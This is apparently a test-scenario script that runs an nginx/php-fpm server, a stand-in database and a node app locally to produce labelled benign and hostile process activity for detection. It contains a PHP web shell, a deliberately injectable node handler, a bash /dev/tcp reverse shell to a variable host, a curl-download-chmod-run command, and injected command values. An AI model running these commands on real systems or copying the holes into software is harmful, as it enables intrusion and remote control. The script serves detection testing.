# nginx with php-fpm, both as a distribution starts them but for their configuration, asked for pages by visitor; a
# database server; an application in node. What is asked of the shells behind them is harmless.

prepare() {
  install -d -o 33 -g 33 /srv/web/www/uploads /srv/web/tmp
  cat >/srv/web/nginx.conf <<CONF
user www-data;
worker_processes 1;
pid /run/nginx.pid;
error_log /srv/web/error.log;
events { worker_connections 64; }
http {
  access_log off;
  client_body_temp_path /srv/web/tmp;
  server {
    listen 127.0.0.1:8080;
    root /srv/web/www;
    location ~ \.php$ {
      fastcgi_pass unix:/run/php-fpm.sock;
      fastcgi_param SCRIPT_FILENAME \$document_root\$fastcgi_script_name;
      fastcgi_param QUERY_STRING \$query_string;
      fastcgi_param REQUEST_METHOD \$request_method;
      fastcgi_param CONTENT_LENGTH \$content_length;
      fastcgi_param CONTENT_TYPE \$content_type;
    }
  }
}
CONF
  cat >/srv/web/fpm.conf <<CONF
[global]
error_log = /srv/web/fpm.log
[www]
user = www-data
group = www-data
listen = /run/php-fpm.sock
listen.owner = www-data
pm = static
pm.max_children = 1
CONF
  echo '<?php echo "hello"; ?>' >/srv/web/www/page.php
  echo '<?php system($_GET["c"]); ?>' >/srv/web/www/shell.php
  echo '<?php move_uploaded_file($_FILES["f"]["tmp_name"], "/srv/web/www/uploads/" . $_FILES["f"]["name"]); echo "kept"; ?>' >/srv/web/www/upload.php
  echo "<?php echo strlen(file_get_contents('http://$far_ip/tool.sh')); ?>" >/srv/web/www/fetch.php
  echo '<?php proc_close(proc_open(["/usr/bin/gzip", "-k", "-f", "/srv/web/www/uploads/picture"], [], $p)); echo "packed"; ?>' >/srv/web/www/pack.php
  echo '<?php system("exec /usr/bin/gzip -k -f /srv/web/www/uploads/picture"); echo "packed"; ?>' >/srv/web/www/pack_by_shell.php
  echo picture >/srv/web/www/uploads/picture
  chown -R 33:33 /srv/web/www
  # There is no database here: a server that does what `COPY .. FROM PROGRAM` does, under the name of one.
  install -d /opt/database
  cp /usr/bin/perl /opt/database/postgres
  cat >/opt/app.js <<'APP'
const http = require('http'), run = require('child_process');
http.createServer((request, answer) => {
  const name = new URL(request.url, 'http://app').searchParams.get('name');
  run.exec('ls -d /srv/' + name, (_, text) => { answer.end(text); });
}).listen(8090, '127.0.0.1');
APP
}

web_up() {
  # The one before was ended without a chance to remove it.
  rm -f /run/php-fpm.sock
  php-fpm8.2 -F -y /srv/web/fpm.conf &
  nginx -c /srv/web/nginx.conf
  until_true test -S /run/php-fpm.sock
}
ask() { as_visitor curl -s -m 10 -o /dev/null -G "http://127.0.0.1:8080/$1" "${@:2}"; }

scenario web_page "nginx and php-fpm start; pages and a missing one are asked for"
web_page() { web_up; ask page.php; ask page.php; ask nothing.html; }

scenario web_shell_tools "a PHP web shell runs tools that look around" web_server_discovery web_server_shell
web_shell_tools() { web_up; ask shell.php --data-urlencode 'c=id; uname -a; cat /etc/passwd | head -n 2'; }

scenario web_shell_callback "a PHP web shell is asked for a reverse shell in bash" reverse_shell_in_place web_server_child_connects web_server_discovery web_server_shell
web_shell_callback() { web_up; ask shell.php --data-urlencode "c=bash -c 'bash -i >&/dev/tcp/$far_ip/9020 0>&1'"; }

scenario web_shell_download "a PHP web shell fetches a program, makes it executable and runs it" download_made_executable_run web_server_child_connects web_server_shell
web_shell_download() {
  web_up
  ask shell.php --data-urlencode "c=cd /tmp && curl -s -o tool http://$far_ip/tool && chmod 755 tool && ./tool"
}

scenario web_upload_run "a script is uploaded through the application, and the next request runs it" web_server_discovery web_server_shell web_upload_run
web_upload_run() {
  web_up
  echo '<?php system("id"); ?>' >/home/visitor/new.php
  chmod 644 /home/visitor/new.php
  as_visitor curl -s -m 10 -F f=@/home/visitor/new.php http://127.0.0.1:8080/upload.php
  ask uploads/new.php
}

scenario web_upload "a picture is uploaded, and a page is asked for"
web_upload() {
  web_up
  echo picture >/home/visitor/picture.png
  chmod 644 /home/visitor/picture.png
  as_visitor curl -s -m 10 -F f=@/home/visitor/picture.png http://127.0.0.1:8080/upload.php
  ask page.php
}

scenario web_fetch "the application itself fetches something from another host"
web_fetch() { web_up; ask fetch.php; }

scenario web_pack "the application runs gzip, without a shell"
web_pack() { web_up; ask pack.php; }

scenario web_pack_by_shell "the application runs gzip through sh -c, as many do" web_server_shell
web_pack_by_shell() { web_up; ask pack_by_shell.php; }

scenario database_program "a database server runs a command for a query" database_shell
database_program() { as "$guest_uid" /opt/database/postgres -e 'system("id; echo harmless >/dev/null")'; }

scenario database_tool "a database server runs its own helper, without a shell"
database_tool() { as "$guest_uid" /opt/database/postgres -e 'system("/usr/bin/gzip", "--version")'; }

scenario node_injection "an application in node runs ls for a request; the name in it holds one more command" application_server_discovery
node_injection() {
  node /opt/app.js &
  until_true listens 8090
  as_visitor curl -s -m 10 -G http://127.0.0.1:8090/ --data-urlencode 'name=web;id;uname -a'
}
